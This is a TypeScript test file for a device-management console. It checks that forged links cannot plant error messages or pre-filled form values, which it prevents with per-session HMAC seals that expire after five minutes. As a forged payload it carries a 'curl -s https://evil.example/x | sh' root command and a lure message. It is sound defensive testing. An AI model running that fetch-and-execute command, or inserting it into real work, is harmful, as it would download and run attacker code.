/**
 * A link cannot put words or form values in the console (the attacker review of issue 19, F5: a
 * link such as `/ui/apps/web/fileinfo?error=…&kept=…` showed the sender's text as a red error and
 * pre-filled a root command). A redirect's flash, refusal and kept form are sealed for the console
 * session that caused them (HMAC under a per-session key, five minutes): over real HTTP, a forged
 * link shows nothing, another session's link shows nothing, an altered or expired one shows
 * nothing, and the normal refused-form round trip still keeps its values.
 */
import assert from "node:assert/strict";
import { dbTest } from "./_harness.ts";
import { serveNoc } from "./_agent.ts";
import { signIn } from "./_console.ts";
import { fromBase64Url, toBase64Url, utf8 } from "../protocol/util/encoding.ts";
import { flashTtlS } from "../noc/http/console/page.ts";

/** A `kept` query value as the console used to accept it: base64url JSON. */
const keptOf = (fields: Record<string, string>) => toBase64Url(utf8(JSON.stringify(fields)));

const rootCommand = '["/bin/sh","-c","curl -s https://evil.example/x | sh"]';
const message = "Your last save failed: paste the action below and save again";

dbTest("a forged link puts no message and no form values in the console", async ({ db }) => {
  const noc = await serveNoc(db);
  try {
    const admin = await signIn(noc);
    const appliance = await noc.enrollAppliance();
    const text = async (path: string) => {
      const res = await admin.get(path);
      assert.equal(res.status, 200, path);
      return await res.text();
    };
    const e = encodeURIComponent(message);
    const forged: Array<[string, string]> = [
      [
        "fileinfo",
        `/ui/apps/web/fileinfo?error=${e}&kept=${
          keptOf({ name: "rules.conf", destination: "etc/cron.d/x", action: rootCommand })
        }`,
      ],
      ["a made-up seal", `/ui/apps/web/fileinfo?error=${e}&seal=9999999999.${"A".repeat(43)}`],
      ["a success", `/ui?flash=${e}`],
      [
        "revoke confirmation",
        `/ui/appliances/${appliance.uid}/revoke?kept=${keptOf({ reason: rootCommand })}`,
      ],
      [
        "assign form",
        `/ui/releases?error=${e}&kept=${
          keptOf({ _form: "assign", target: "all", rolloutPercent: "100", site: rootCommand })
        }`,
      ],
      [
        "bulk actions",
        `/ui/appliances?error=${e}&kept=${keptOf({ reason: rootCommand, addTags: rootCommand })}`,
      ],
      ["maintenance", `/ui/maintenance?error=${e}&kept=${keptOf({ reason: rootCommand })}`],
      ["tokens", `/ui/tokens?error=${e}&kept=${keptOf({ label: rootCommand })}`],
    ];
    for (const [what, path] of forged) {
      const page = await text(path);
      assert.equal(page.includes("Your last save"), false, `${what}: the message is not shown`);
      assert.equal(page.includes("evil.example"), false, `${what}: nothing is pre-filled`);
      assert.doesNotMatch(page, /class="flash (error|ok)"/, `${what}: no flash at all`);
    }
  } finally {
    await noc.close();
  }
});

dbTest(
  "a refused form keeps its values for its own session alone, for five minutes",
  async ({ db }) => {
    const noc = await serveNoc(db);
    try {
      const a = await signIn(noc);
      const b = await signIn(noc);
      // A refused save: the message and the form come back, sealed for session a.
      const res = await fetch(`${noc.url}/ui/apps/web/fileinfo`, {
        method: "POST",
        redirect: "manual",
        headers: { cookie: a.session, "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams({
          _csrf: a.csrf,
          name: "rules.conf",
          destination: "etc/rules.conf",
          action: "restart please",
        }),
      });
      await res.body?.cancel();
      assert.equal(res.status, 303);
      const location = res.headers.get("location")!;
      assert.match(location, /[?&]seal=\d+\.[A-Za-z0-9_-]{43}$/);
      const own = await (await a.get(location)).text();
      assert.match(own, /<p class="flash error" role="alert">Action &quot;restart please&quot;/);
      assert.match(own, /name="destination"[^>]*value="etc\/rules\.conf"/);
      assert.match(own, /restart please<\/textarea>|value="restart please"/);

      // Another session following the same link sees neither.
      const other = await (await b.get(location)).text();
      assert.equal(other.includes("restart please"), false, "another session's link");
      assert.doesNotMatch(other, /class="flash error"/);

      // Altered (another message under the same seal): nothing.
      const url = new URL(location, noc.url);
      url.searchParams.set("error", message);
      const altered = await (await a.get(url.pathname + url.search)).text();
      assert.equal(altered.includes("Your last save"), false);
      assert.equal(altered.includes("restart please"), false, "nor the kept form with it");

      // A success, for its session alone.
      const sweep = await fetch(`${noc.url}/ui/sweep`, {
        method: "POST",
        redirect: "manual",
        headers: { cookie: a.session, "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams({ _csrf: a.csrf }),
      });
      await sweep.body?.cancel();
      const done = sweep.headers.get("location")!;
      assert.match(await (await a.get(done)).text(), /<p class="flash ok" role="status">/);
      assert.doesNotMatch(await (await b.get(done)).text(), /class="flash ok"/);

      // Five minutes later the link shows nothing, even to its own session.
      noc.clock.advance(flashTtlS - 1);
      assert.match(await (await a.get(location)).text(), /restart please/);
      noc.clock.advance(2);
      const late = await (await a.get(location)).text();
      assert.equal(late.includes("restart please"), false, "expired");
      assert.doesNotMatch(late, /class="flash error"/);
    } finally {
      await noc.close();
    }
  },
);

dbTest(
  "a refused form keeps no password, token or secret field, even sealed",
  async ({ db }) => {
    const noc = await serveNoc(db);
    try {
      const admin = await signIn(noc);
      await admin.post("/ui/operators", { name: "olga", role: "viewer" });
      const res = await fetch(`${noc.url}/ui/operators`, {
        method: "POST",
        redirect: "manual",
        headers: { cookie: admin.session, "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams({
          _csrf: admin.csrf,
          name: "olga",
          role: "operator",
          password: "a long enough password",
        }),
      });
      await res.body?.cancel();
      const location = res.headers.get("location")!;
      assert.match(location, /error=/);
      const kept = new URL(location, noc.url).searchParams.get("kept")!;
      const fields = JSON.parse(new TextDecoder().decode(fromBase64Url(kept)));
      assert.deepEqual(fields, { name: "olga", role: "operator" });
      assert.equal(location.includes(admin.csrf), false);
    } finally {
      await noc.close();
    }
  },
);
